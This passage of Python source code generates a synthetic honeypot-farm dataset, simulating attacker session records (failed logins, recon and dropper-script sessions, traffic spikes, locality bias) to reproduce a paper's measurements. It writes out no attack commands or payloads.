        self._locality_cache: Optional[Tuple[np.ndarray, ...]] = None

    # -- client activity calendar --------------------------------------------

    def _build_day_buckets(self) -> None:
        n_days = self.config.n_days
        buckets: Dict[str, List[List[int]]] = {
            cat: [[] for _ in range(n_days)] for _, cat in _ROLE_CATEGORY
        }
        rng = self.rng.child("calendar")
        pop = self.population
        scan_env = self.envelopes["NO_CRED"]
        for i in range(len(pop)):
            days = sample_active_days(
                rng, int(pop.first_day[i]), int(pop.n_days[i]), scan_env
            )
            mask = int(pop.roles[i])
            for role, cat in _ROLE_CATEGORY:
                if mask & int(role):
                    cat_buckets = buckets[cat]
                    for d in days:
                        if d < n_days:
                            cat_buckets[d].append(i)
        self._day_buckets = buckets

    def _active_clients(self, category: str, day: int, rng: RngStream) -> np.ndarray:
        bucket = self._day_buckets[category][day]
        if bucket:
            return np.asarray(bucket, dtype=np.int64)
        role = next(r for r, cat in _ROLE_CATEGORY if cat == category)
        candidates = self.population.with_role(role)
        if len(candidates) == 0:
            return np.zeros(0, dtype=np.int64)
        k = min(5, len(candidates))
        picked = rng.choice_indices(len(candidates), size=k, replace=False)
        return candidates[np.asarray(picked)]

    # -- shared emission helpers ------------------------------------------------

    def _expand_day(
        self, rng: RngStream, clients: np.ndarray, n_sessions: int
    ) -> np.ndarray:
        """Distribute a day's sessions over its active clients by rate."""
        rates = self.population.rate[clients].astype(np.float64)
        counts = rng.multinomial(n_sessions, rates)
        nz = np.nonzero(counts)[0]
        return np.repeat(clients[nz], counts[nz])

    def _pots_for(self, rng: RngStream, session_clients: np.ndarray) -> np.ndarray:
        m = len(session_clients)
        u = rng.random_array(m)
        if m == 0:
            return np.zeros(0, dtype=np.int32)
        # ``_expand_day`` emits contiguous runs per client (np.repeat), so
        # one vectorised searchsorted per run covers the whole day; the
        # draws are the exact same uniforms the scalar path consumed.
        out = np.empty(m, dtype=np.int32)
        targets = self.targets
        boundaries = np.flatnonzero(np.diff(session_clients)) + 1
        starts = np.concatenate(([0], boundaries))
        ends = np.concatenate((boundaries, [m]))
        for s, e in zip(starts, ends):
            out[s:e] = targets[int(session_clients[s])].choose_many(u[s:e])
        return out

    def _start_times(self, rng: RngStream, day: int, n: int) -> np.ndarray:
        return day * SECONDS_PER_DAY + rng.uniform_array(0, SECONDS_PER_DAY, n)

    # -- category emitters ---------------------------------------------------------

    def _emit_no_cred(self) -> None:
        budget = self.config.sessions_for("NO_CRED")
        budgets = _daily_budgets(budget, self.envelopes["NO_CRED"])
        rng = self.rng.child("no_cred")
        for day in range(self.config.n_days):
            n = int(budgets[day])
            if n <= 0:
                continue
            self._no_cred_day(rng, day, n)

    def _no_cred_day(self, rng: RngStream, day: int, n: int) -> None:
        pop = self.population
        clients = self._active_clients("NO_CRED", day, rng)
        if len(clients) == 0:
            return
        idx = self._expand_day(rng, clients, n)
        m = len(idx)
        duration, close = no_cred_fields(rng, m)
        protocol = protocol_array(rng, m, SSH_SHARE["NO_CRED"])
        neg = np.full(m, -1, dtype=np.int32)
        self.emitter.append_block(
            start_time=self._start_times(rng, day, m),
            duration=duration,
            honeypot=self._pots_for(rng, idx),
            protocol=protocol,
            client_ip=pop.ip[idx],
            client_asn=pop.asn[idx],
            client_country=pop.country[idx].astype(np.int32),
            n_attempts=np.zeros(m, dtype=np.uint16),
            login_success=np.zeros(m, dtype=bool),
            script_id=neg,
            password_id=neg,
            username_id=neg,
            hash_ids=None,
            close_reason=close,
            version_id=self.emitter.client_versions(rng, m, protocol),
        )
        _metric_inc("generator.sessions.NO_CRED", m)
        _metric_inc("generator.days.NO_CRED")
        _trace_block("no_cred", day, m)

    def _fail_log_setup(
        self, rng: RngStream
    ) -> Tuple[set, np.ndarray, np.ndarray]:
        """Fixed spike configuration: days, source clients, target pots.

        The big FAIL_LOG spikes (2022-09-05, 2022-11-05) are driven by a
        handful of source IPs hammering a small pot subset — the paper
        notes spikes are "often due to activity seen by only a small
        subset of the honeypots" (Fig 9).
        """
        from repro.workload.temporal import DAY_SPIKE_NOV5, DAY_SPIKE_SEP5
        spike_days = {DAY_SPIKE_SEP5, DAY_SPIKE_SEP5 + 1, DAY_SPIKE_NOV5}
        scout_clients = self.population.with_role(ClientRole.SCOUT)
        spike_rng = rng.child("spikes")
        if len(scout_clients):
            picked = spike_rng.choice_indices(
                len(scout_clients), size=min(3, len(scout_clients)),
                replace=False)
            spike_client_idx = scout_clients[np.asarray(picked)]
        else:
            spike_client_idx = np.zeros(0, dtype=np.int64)
        spike_pots = np.argsort(self.session_weights)[::-1][:3].astype(np.int64)
        return spike_days, spike_client_idx, spike_pots

    def _emit_fail_log(self) -> None:
        budget = self.config.sessions_for("FAIL_LOG")
        budgets = _daily_budgets(budget, self.envelopes["FAIL_LOG"])
        # Explicit sequential handoff: this stream is passed to the
        # sampler/emit helpers, which draw on its behalf in one fixed
        # order inside one task — not shared cross-module state.
        rng = self.rng.child("fail_log")  # repro: lint-ok[rng-lineage]
        baseline = float(np.median(budgets[budgets > 0])) if (budgets > 0).any() else 0.0
        spike = self._fail_log_setup(rng)

        for day in range(self.config.n_days):
            n = int(budgets[day])
            if n <= 0:
                continue
            self._fail_log_day(rng, day, n, baseline, spike)

    def _fail_log_day(
        self,
        rng: RngStream,
        day: int,
        n: int,
        baseline: float,
        spike: Tuple[set, np.ndarray, np.ndarray],
    ) -> None:
        spike_days, spike_client_idx, spike_pots = spike
        pop = self.population
        if day in spike_days and len(spike_client_idx) and n > baseline:
            surplus = int(n - baseline)
            self._emit_fail_log_spike(rng, day, surplus,
                                      spike_client_idx, spike_pots)
            n -= surplus
            if n <= 0:
                return
        clients = self._active_clients("FAIL_LOG", day, rng)
        if len(clients) == 0:
            return
        idx = self._expand_day(rng, clients, n)
        m = len(idx)
        protocol = protocol_array(rng, m, SSH_SHARE["FAIL_LOG"])
        duration, close, attempts = fail_log_fields(rng, m, protocol == 0)
        users, passwords = self.emitter.fail_credentials(rng, m)
        self.emitter.append_block(
            start_time=self._start_times(rng, day, m),
            duration=duration,
            honeypot=self._pots_for(rng, idx),
            protocol=protocol,
            client_ip=pop.ip[idx],
            client_asn=pop.asn[idx],
            client_country=pop.country[idx].astype(np.int32),
            n_attempts=attempts,
            login_success=np.zeros(m, dtype=bool),
            script_id=np.full(m, -1, dtype=np.int32),
            password_id=passwords,
            username_id=users,
            hash_ids=None,
            close_reason=close,
            version_id=self.emitter.client_versions(rng, m, protocol),
        )
        _metric_inc("generator.sessions.FAIL_LOG", m)
        _metric_inc("generator.days.FAIL_LOG")
        _trace_block("fail_log", day, m)

    def _emit_fail_log_spike(
        self,
        rng: RngStream,
        day: int,
        n: int,
        spike_clients: np.ndarray,
        spike_pots: np.ndarray,
    ) -> None:
        """Emit a FAIL_LOG burst from few clients against few pots."""
        pop = self.population
        counts = rng.multinomial(n, np.ones(len(spike_clients)))
        nz = np.nonzero(counts)[0]
        idx = np.repeat(spike_clients[nz], counts[nz])
        m = len(idx)
        if m == 0:
            return
        protocol = protocol_array(rng, m, SSH_SHARE["FAIL_LOG"])
        duration, close, attempts = fail_log_fields(rng, m, protocol == 0)
        users, passwords = self.emitter.fail_credentials(rng, m)
        pot_pick = rng.choice_indices(len(spike_pots), size=m)
        self.emitter.append_block(
            start_time=self._start_times(rng, day, m),
            duration=duration,
            honeypot=spike_pots[np.asarray(pot_pick)],
            protocol=protocol,
            client_ip=pop.ip[idx],
            client_asn=pop.asn[idx],
            client_country=pop.country[idx].astype(np.int32),
            n_attempts=attempts,
            login_success=np.zeros(m, dtype=bool),
            script_id=np.full(m, -1, dtype=np.int32),
            password_id=passwords,
            username_id=users,
            hash_ids=None,
            close_reason=close,
            version_id=self.emitter.client_versions(rng, m, protocol),
        )
        _metric_inc("generator.sessions.FAIL_LOG", m)
        _metric_inc("generator.spike_sessions.FAIL_LOG", m)
        _trace_block("fail_log", day, m, spike=True)

    def _no_cmd_setup(self, rng: RngStream) -> Tuple[_RuPrefixClients, np.ndarray]:
        ru_count = max(8, int(48 * self.config.ip_scale * 10))
        ru_index = self.population.country_codes.index("RU")
        ru = _RuPrefixClients(self.registry, rng.child("ru"), ru_count, ru_index)
        # The RU prefix targets a broad, fixed slice of the farm.
        ru_pots = np.arange(self.n_pots, dtype=np.int32)
        return ru, ru_pots

    def _emit_no_cmd(self) -> None:
        budget = self.config.sessions_for("NO_CMD")
        budgets = _daily_budgets(budget, self.envelopes["NO_CMD"])
        # Explicit sequential handoff, as in _emit_fail_log above.
        rng = self.rng.child("no_cmd")  # repro: lint-ok[rng-lineage]
        ru, ru_pots = self._no_cmd_setup(rng)

        for day in range(self.config.n_days):
            n = int(budgets[day])
            if n <= 0:
                continue
            self._no_cmd_day(rng, day, n, ru, ru_pots)

    def _no_cmd_day(
        self,
        rng: RngStream,
        day: int,
        n: int,
        ru: _RuPrefixClients,
        ru_pots: np.ndarray,
    ) -> None:
        pop = self.population
        n_ru = int(round(n * ru_edge_weight(day)))
        n_regular = n - n_ru

        if n_ru > 0:
            counts = rng.multinomial(n_ru, ru.rates)
            nz = np.nonzero(counts)[0]
            ips = np.repeat(ru.ips[nz], counts[nz])
            m = len(ips)
            duration, close, attempts = no_cmd_fields(rng, m)
            protocol = protocol_array(rng, m, SSH_SHARE["NO_CMD"])
            pot_pick = rng.choice_indices(len(ru_pots), size=m)
            self.emitter.append_block(
                start_time=self._start_times(rng, day, m),
                duration=duration,
                honeypot=ru_pots[np.asarray(pot_pick)],
                protocol=protocol,
                client_ip=ips,
                client_asn=np.full(m, ru.asn, dtype=np.int32),
                client_country=np.full(m, ru.country_index, dtype=np.int32),
                n_attempts=attempts,
                login_success=np.ones(m, dtype=bool),
                script_id=np.full(m, -1, dtype=np.int32),
                password_id=self.emitter.success_passwords(rng, m),
                username_id=np.full(m, self.emitter.root_id, dtype=np.int32),
                hash_ids=None,
                close_reason=close,
                version_id=self.emitter.client_versions(rng, m, protocol),
            )
            _metric_inc("generator.sessions.NO_CMD", m)
            _trace_block("no_cmd", day, m, ru=True)

        if n_regular > 0:
            clients = self._active_clients("NO_CMD", day, rng)
            if len(clients) == 0:
                return
            idx = self._expand_day(rng, clients, n_regular)
            m = len(idx)
            duration, close, attempts = no_cmd_fields(rng, m)
            protocol = protocol_array(rng, m, SSH_SHARE["NO_CMD"])
            self.emitter.append_block(
                start_time=self._start_times(rng, day, m),
                duration=duration,
                honeypot=self._pots_for(rng, idx),
                protocol=protocol,
                client_ip=pop.ip[idx],
                client_asn=pop.asn[idx],
                client_country=pop.country[idx].astype(np.int32),
                n_attempts=attempts,
                login_success=np.ones(m, dtype=bool),
                script_id=np.full(m, -1, dtype=np.int32),
                password_id=self.emitter.success_passwords(rng, m),
                username_id=np.full(m, self.emitter.root_id, dtype=np.int32),
                hash_ids=None,
                close_reason=close,
                version_id=self.emitter.client_versions(rng, m, protocol),
            )
            _metric_inc("generator.sessions.NO_CMD", m)
            _trace_block("no_cmd", day, m)
        _metric_inc("generator.days.NO_CMD")

    def _realize_campaigns(self) -> None:
        """Realise and rescale all campaigns without emitting any sessions."""
        rng = self.rng.child("midtail")
        specs = marquee_campaigns() + midtail_campaigns(
            self.config.n_midtail_campaigns, rng, self.config.intel_coverage
        )
        realized = [self.engine.realize(spec) for spec in specs]
        self.realized = [r for r in realized if r is not None]

        # Clamp total campaign volume per category so background traffic
        # retains its budget share. Rescaling trims a campaign's schedule
        # (dropping active days when necessary) instead of flooring every
        # day at one session, which would blow the budget at small scales.
        for category, cap_share in (("CMD", 0.72), ("CMD_URI", 0.70)):
            cap = int(self.config.sessions_for(category) * cap_share)
            total = sum(
                r.total_sessions for r in self.realized if r.category == category
            )
            if total > cap > 0:
                factor = cap / total
                for r in self.realized:
                    if r.category == category:
                        r.schedule = _rescale_schedule(r.schedule, factor)

    def _emit_campaigns(self) -> None:
        self._realize_campaigns()
        for r in self.realized:
            emitted = self.engine.emit(r)
            self._campaign_sessions[r.category] += emitted

    def _emit_singleton_writers(self) -> None:
        """Background intruders whose one-off files give singleton hashes.

        Each writer runs a personal FILE_TOKEN script against a single
        honeypot — these are the >60% of all hashes the paper finds at
        exactly one honeypot.
        """
        rng = self.rng.child("singletons")
        pop = self.population
        cmd_clients = pop.with_role(ClientRole.CMD)
        n_writers = min(self.config.n_singleton_hashes, len(cmd_clients))
        if n_writers == 0:
            return
        picked = rng.choice_indices(len(cmd_clients), size=n_writers, replace=False)
        writers = cmd_clients[np.asarray(picked)]
        emitted = 0
        for w in writers:
            w = int(w)
            token = f"bg-{w}-{int(pop.ip[w])}"
            profile = self.runner.profile(build_script(ScriptKind.FILE_TOKEN, token=token))
            script_id = self.builder.intern_script(profile.commands, profile.uris)
            hash_ids = tuple(self.builder.hashes.intern(h) for h in profile.hashes)
            # A singleton file surfaces wherever its writer happened to
            # intrude; spreading them uniformly over the writer's targets
            # keeps the top pots' unique-hash coverage small (the paper's
            # strongest diversity argument: the best pot sees <5%).
            target_pots = self.targets[w].pots
            pot = int(target_pots[rng.randint(0, len(target_pots))])
            n_sessions = 1 + rng.randint(0, 3)
            day0 = int(pop.first_day[w])
            for s in range(n_sessions):
                day = min(day0 + rng.randint(0, max(1, int(pop.n_days[w]))),
                          self.config.n_days - 1)
                start = day * SECONDS_PER_DAY + rng.uniform(0, SECONDS_PER_DAY)
                duration, close, attempts = cmd_fields(
                    rng, 1, np.array([profile.exec_seconds])
                )
                protocol = protocol_array(rng, 1, SSH_SHARE["CMD"])
                self.emitter.append_row(
                    start_time=float(start),
                    duration=float(duration[0]),
                    honeypot_id=pot,
                    protocol=int(protocol[0]),
                    client_ip=int(pop.ip[w]),
                    client_asn=int(pop.asn[w]),
                    client_country_id=int(pop.country[w]),
                    n_attempts=int(attempts[0]),
                    login_success=True,
                    script_id=script_id,
                    password_id=int(self.emitter.success_passwords(rng, 1)[0]),
                    username_id=self.emitter.root_id,
                    hash_ids=hash_ids,
                    close_reason_id=int(close[0]),
                    version_id=-1,
                )
                emitted += 1
        self._campaign_sessions["CMD"] += emitted  # counts against CMD budget
        _metric_inc("generator.sessions.singletons", emitted)
        _trace.emit("generator.block", trace_id="singletons",
                    category="singletons", sessions=emitted)

    # -- singleton writers, sharded path --------------------------------------
    #
    # The sharded pipeline gives every writer its own named rng stream so a
    # writer's sessions are identical no matter which worker emits them.
    # Selection reuses the first draw of the serial path's stream, so both
    # paths pick the same writers.

    def _singleton_writers(self) -> np.ndarray:
        """Deterministic singleton-writer selection (population indices)."""
        rng = self.rng.child("singletons")
        cmd_clients = self.population.with_role(ClientRole.CMD)
        n_writers = min(self.config.n_singleton_hashes, len(cmd_clients))
        if n_writers == 0:
            return np.zeros(0, dtype=np.int64)
        picked = rng.choice_indices(len(cmd_clients), size=n_writers, replace=False)
        return cmd_clients[np.asarray(picked)]

    def _singleton_writer_rng(self, w: int) -> RngStream:
        # Composed-name construction: identical stream (and draws) to
        # .child("singletons").child(f"w{w}") at half the derivations.
        return RngStream(self.rng.master_seed, f"{self.rng.name}.singletons.w{w}")

    def _singleton_writer_plan(self, wrng: RngStream, w: int) -> Tuple[int, int]:
        """(target pot, session count) for one writer — first draws on its stream."""
        target_pots = self.targets[w].pots
        pot = int(target_pots[wrng.randint(0, len(target_pots))])
        n_sessions = 1 + wrng.randint(0, 3)
        return pot, n_sessions

    def _singleton_session_total(self, writers: np.ndarray) -> int:
        """Total sessions the writers will emit (re-derivable in any worker)."""
        total = 0
        for w in writers:
            w = int(w)
            _pot, n_sessions = self._singleton_writer_plan(
                self._singleton_writer_rng(w), w
            )
            total += n_sessions
        return total

    def _singleton_writer_emit(self, w: int) -> None:
        """Emit one writer's sessions into ``self.builder`` (sharded path)."""
        pop = self.population
        w = int(w)
        wrng = self._singleton_writer_rng(w)
        pot, n_sessions = self._singleton_writer_plan(wrng, w)
        token = f"bg-{w}-{int(pop.ip[w])}"
        profile = self.runner.profile(build_script(ScriptKind.FILE_TOKEN, token=token))
        script_id = self.builder.intern_script(profile.commands, profile.uris)
        hash_ids = tuple(self.builder.hashes.intern(h) for h in profile.hashes)
        day0 = int(pop.first_day[w])
        for _s in range(n_sessions):
            day = min(day0 + wrng.randint(0, max(1, int(pop.n_days[w]))),
                      self.config.n_days - 1)
            start = day * SECONDS_PER_DAY + wrng.uniform(0, SECONDS_PER_DAY)
            duration, close, attempts = cmd_fields(
                wrng, 1, np.array([profile.exec_seconds])
            )
            protocol = protocol_array(wrng, 1, SSH_SHARE["CMD"])
            self.emitter.append_row(
                start_time=float(start),
                duration=float(duration[0]),
                honeypot_id=pot,
                protocol=int(protocol[0]),
                client_ip=int(pop.ip[w]),
                client_asn=int(pop.asn[w]),
                client_country_id=int(pop.country[w]),
                n_attempts=int(attempts[0]),
                login_success=True,
                script_id=script_id,
                password_id=int(self.emitter.success_passwords(wrng, 1)[0]),
                username_id=self.emitter.root_id,
                hash_ids=hash_ids,
                close_reason_id=int(close[0]),
                version_id=-1,
            )
        _metric_inc("generator.sessions.singletons", n_sessions)
        _trace.emit("generator.block", trace_id=f"singletons.w{w}",
                    sim_time=day0 * 86400.0, category="singletons",
                    writer=w, sessions=n_sessions)

    def _bg_cmd_profiles(self) -> Tuple[int, np.ndarray, np.ndarray]:
        """Intern the fixed recon/fileless script set into ``self.builder``."""
        profiles = []
        for i in range(16):
            kind = ScriptKind.RECON if i % 3 else ScriptKind.FILELESS
            profiles.append(self.runner.profile(build_script(kind, token=f"recon{i}")))
        script_ids = np.array(
            [self.builder.intern_script(p.commands, p.uris) for p in profiles],
            dtype=np.int64,
        )
        exec_secs = np.array([p.exec_seconds for p in profiles])
        return len(profiles), script_ids, exec_secs

    def _emit_background_cmd(self) -> None:
        """Recon-only CMD sessions (no file writes, no URIs)."""
        budget = self.config.sessions_for("CMD") - self._campaign_sessions["CMD"]
        if budget <= 0:
            return
        rng = self.rng.child("bg_cmd")
        pack = self._bg_cmd_profiles()

        budgets = _daily_budgets(budget, self.envelopes["CMD"])
        for day in range(self.config.n_days):
            n = int(budgets[day])
            if n <= 0:
                continue
            self._bg_cmd_day(rng, day, n, pack)

    def _bg_cmd_day(
        self,
        rng: RngStream,
        day: int,
        n: int,
        pack: Tuple[int, np.ndarray, np.ndarray],
    ) -> None:
        n_profiles, script_ids, exec_secs = pack
        pop = self.population
        clients = self._active_clients("CMD", day, rng)
        if len(clients) == 0:
            return
        idx = self._expand_day(rng, clients, n)
        m = len(idx)
        # Clients keep using the same tooling: script choice is stable
        # in the client index.
        prof_idx = idx % n_profiles
        duration, close, attempts = cmd_fields(rng, m, exec_secs[prof_idx])
        protocol = protocol_array(rng, m, SSH_SHARE["CMD"])
        self.emitter.append_block(
            start_time=self._start_times(rng, day, m),
            duration=duration,
            honeypot=self._pots_for(rng, idx),
            protocol=protocol,
            client_ip=pop.ip[idx],
            client_asn=pop.asn[idx],
            client_country=pop.country[idx].astype(np.int32),
            n_attempts=attempts,
            login_success=np.ones(m, dtype=bool),
            script_id=script_ids[prof_idx],
            password_id=self.emitter.success_passwords(rng, m),
            username_id=np.full(m, self.emitter.root_id, dtype=np.int32),
            hash_ids=None,
            close_reason=close,
            version_id=self.emitter.client_versions(rng, m, protocol),
        )
        _metric_inc("generator.sessions.CMD", m)
        _metric_inc("generator.days.CMD")
        _trace_block("bg_cmd", day, m)

    def _bg_uri_profiles(self) -> Tuple[int, np.ndarray, List[Tuple[int, ...]], np.ndarray]:
        """Intern the uncatalogued dropper script set into ``self.builder``."""
        n_profiles = max(12, int(self.config.n_hashes_target * 0.03))
        profiles = [
            self.runner.profile(
                build_script(
                    ScriptKind.DROPPER,
                    token=f"bgdrop{i}",
                    dropper_host=f"203.0.113.{(i % 200) + 10}",
                )
            )
            for i in range(n_profiles)
        ]
        script_ids = np.array(
            [self.builder.intern_script(p.commands, p.uris) for p in profiles],
            dtype=np.int64,
        )
        hash_tuples = [
            tuple(self.builder.hashes.intern(h) for h in p.hashes) for p in profiles
        ]
        exec_secs = np.array([p.exec_seconds for p in profiles])
        return len(profiles), script_ids, hash_tuples, exec_secs

    def _bg_uri_budgets(self, budget: int) -> np.ndarray:
        # Concentrate the URI budget on days where URI-capable clients are
        # naturally active: the paper's CMD+URI activity is bursty and its
        # client IPs are short-lived (Figs 11/13).
        bucket_sizes = np.array(
            [len(self._day_buckets["CMD_URI"][d]) for d in range(self.config.n_days)],
            dtype=float,
        )
        envelope = self.envelopes["CMD_URI"] * np.where(bucket_sizes > 0, 1.0, 0.02)
        envelope = envelope / envelope.sum()
        return _daily_budgets(budget, envelope)

    def _emit_background_uri(self) -> None:
        """Uncatalogued dropper sessions filling the CMD+URI budget."""
        budget = self.config.sessions_for("CMD_URI") - self._campaign_sessions["CMD_URI"]
        if budget <= 0:
            return
        rng = self.rng.child("bg_uri")
        pack = self._bg_uri_profiles()

        budgets = self._bg_uri_budgets(budget)
        for day in range(self.config.n_days):
            n = int(budgets[day])
            if n <= 0:
                continue
            self._bg_uri_day(rng, day, n, pack)

    def _bg_uri_day(
        self,
        rng: RngStream,
        day: int,
        n: int,
        pack: Tuple[int, np.ndarray, List[Tuple[int, ...]], np.ndarray],
    ) -> None:
        n_profiles, script_ids, hash_tuples, exec_secs = pack
        pop = self.population
        clients = self._active_clients("CMD_URI", day, rng)
        if len(clients) == 0:
            return
        idx = self._expand_day(rng, clients, n)
        m = len(idx)
        prof_idx = idx % n_profiles
        duration, close, attempts = cmd_fields(rng, m, exec_secs[prof_idx])
        protocol = protocol_array(rng, m, SSH_SHARE["CMD_URI"])
        pots = self._local_biased_pots(rng, idx)
        self.emitter.append_block(
            start_time=self._start_times(rng, day, m),
            duration=duration,
            honeypot=pots,
            protocol=protocol,
            client_ip=pop.ip[idx],
            client_asn=pop.asn[idx],
            client_country=pop.country[idx].astype(np.int32),
            n_attempts=attempts,
            login_success=np.ones(m, dtype=bool),
            script_id=script_ids[prof_idx],
            password_id=self.emitter.success_passwords(rng, m),
            username_id=np.full(m, self.emitter.root_id, dtype=np.int32),
            hash_ids=[hash_tuples[int(i)] for i in prof_idx],
            close_reason=close,
            version_id=self.emitter.client_versions(rng, m, protocol),
        )
        _metric_inc("generator.sessions.CMD_URI", m)
        _metric_inc("generator.days.CMD_URI")
        _trace_block("bg_uri", day, m)

    def _locality_tables(self) -> Tuple[np.ndarray, np.ndarray, np.ndarray,
                                        np.ndarray, np.ndarray]:
        """CSR pot pools per population country index.

        ``(flat, c_off, c_len, k_off, k_len)``: country ``i``'s same-country
        pots are ``flat[c_off[i]:c_off[i]+c_len[i]]``, its same-continent
        pots ``flat[k_off[i]:k_off[i]+k_len[i]]``.  Pure function of the
        deployment and population — consumes no RNG.
        """
        cache = self._locality_cache
        if cache is None:
            from repro.geo.continents import continent_of

            codes = self.population.country_codes
            n = len(codes)
            flat_parts: List[np.ndarray] = []
            c_off = np.zeros(n, np.int64)
            c_len = np.zeros(n, np.int64)
            k_off = np.zeros(n, np.int64)
            k_len = np.zeros(n, np.int64)
            pos = 0
            for i, cc in enumerate(codes):
                pool = self.target_index.pots_in_country(cc)
                c_off[i] = pos
                c_len[i] = len(pool)
                if len(pool):
                    flat_parts.append(pool)
                    pos += len(pool)
            for i, cc in enumerate(codes):
                pool = self.target_index.pots_on_continent(continent_of(cc))
                k_off[i] = pos
                k_len[i] = len(pool)
                if len(pool):
                    flat_parts.append(pool)
                    pos += len(pool)
            flat = (np.concatenate(flat_parts) if flat_parts
                    else np.zeros(0, np.int32))
            cache = self._locality_cache = (flat, c_off, c_len, k_off, k_len)
        return cache

    def _local_biased_pots(self, rng: RngStream, idx: np.ndarray) -> np.ndarray:
        """Target choice with the CMD+URI locality bias (Fig 16b).

        URI attackers pick closer targets: a share of their sessions is
        redirected to a honeypot in the client's own country when the farm
        has one, else to one on its continent.  One batched varying-bound
        ``randint_array`` covers every redirected session; the draws are
        bit-identical to the scalar per-session loop it replaced
        (``RngStream.randint_array``).
        """
        pots = self._pots_for(rng, idx)
        bias = self.config.uri_locality_bias
        if bias <= 0:
            return pots
        u = rng.random_array(len(idx))
        hit = np.flatnonzero(u < bias)
        if hit.size == 0:
            return pots
        flat, c_off, c_len, k_off, k_len = self._locality_tables()
        ci = self.population.country[idx[hit]].astype(np.int64)
        use_country = (u[hit] < 0.4 * bias) & (c_len[ci] > 0)
        bounds = np.where(use_country, c_len[ci], k_len[ci])
        offs = np.where(use_country, c_off[ci], k_off[ci])
        drawable = bounds > 0
        if drawable.any():
            picks = rng.randint_array(0, bounds[drawable])
            pots[hit[drawable]] = flat[offs[drawable] + picks]
        return pots

    # -- orchestration ---------------------------------------------------------------

    def _campaign_runtimes(self) -> List[CampaignRuntime]:
        return [
            CampaignRuntime(
                campaign_id=r.spec.campaign_id,
                tag=r.spec.tag.value,
                primary_hash=r.profile.primary_hash or "",
                hashes=list(r.profile.hashes),
                sessions_planned=r.total_sessions,
                n_clients=len(r.pool),
                active_days=sorted(r.schedule),
                honeypot_indices=[int(p) for p in r.pot_subset],
            )
            for r in self.realized
        ]

    def _finalize(self, store) -> HoneyfarmDataset:
        return HoneyfarmDataset(
            config=self.config,
            store=store,
            deployment=self.deployment,
            registry=self.registry,
            intel=self.intel,
            campaigns=self._campaign_runtimes(),
            envelopes=self.envelopes,
        )

    def run(self) -> HoneyfarmDataset:
        metrics = get_metrics()
        with metrics.span("generate"):
            with metrics.span("day_buckets"):
                self._build_day_buckets()
            with metrics.span("campaigns"):
                self._emit_campaigns()
            with metrics.span("singletons"):
                self._emit_singleton_writers()
            with metrics.span("background"):
                self._emit_background_cmd()
                self._emit_background_uri()
                self._emit_no_cred()
                self._emit_fail_log()
                self._emit_no_cmd()
            with metrics.span("freeze"):
                self.emitter.flush()
                store = self.builder.build()
        return self._finalize(store)


def generate_dataset(
    config: Optional[ScenarioConfig] = None,
    workers: Optional[int] = None,
    cache=None,
) -> HoneyfarmDataset:
    """Deprecated shim over :func:`repro.api.generate`.

    ``workers=None`` runs the original single-pass generator (the
    ``serial`` backend — a distinct, equally valid trace whose draw order
    predates sharding); any integer ``workers >= 1`` selects the sharded
    pipeline, whose output is identical for every worker count.  ``cache``
    memoises the result on disk exactly as before.

    New code should call :func:`repro.generate`, which exposes the
    scheduler's backend seam (``inline`` / ``pool`` / ``queue``) instead
    of a bare process count.
    """
    import warnings

    warnings.warn(
        "generate_dataset() is deprecated; use repro.generate(config, "
        "backend=..., workers=...) (see repro.api)",
        DeprecationWarning, stacklevel=2,
    )
    from repro.api import generate

    if workers is None:
        backend = "serial"
        workers_opt = None
    else:
        backend = "inline" if int(workers) == 1 else "pool"
        workers_opt = max(1, int(workers))
    return generate(config, backend=backend, workers=workers_opt,
                    cache=cache)
